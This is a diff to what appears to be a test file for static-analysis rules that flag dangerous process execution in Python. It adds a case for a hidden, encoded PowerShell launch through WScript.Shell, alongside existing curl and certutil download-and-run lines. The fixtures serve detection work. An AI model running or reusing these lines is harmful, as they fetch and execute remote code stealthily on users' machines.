@@ -172,3 +172,10 @@ os.system("curl https://cdn.example.net/build.py -o %TEMP%/start.pyw && py %TEMP
 os.system("certutil -urlcache -f https://example.net/a.exe a.exe && start a.exe")
 # ok: AIR-PROC-005
 os.system("curl -o report.json https://api.example.com/report && cat report.json")
+
+import win32com.client  # noqa: E402
+
+# ruleid: AIR-PROC-015
+win32com.client.Dispatch("WScript.Shell").Run("powershell -nop -w hidden -enc SQBFAFgA")
+# ok: AIR-PROC-015
+workbook = win32com.client.Dispatch("Excel.Application")
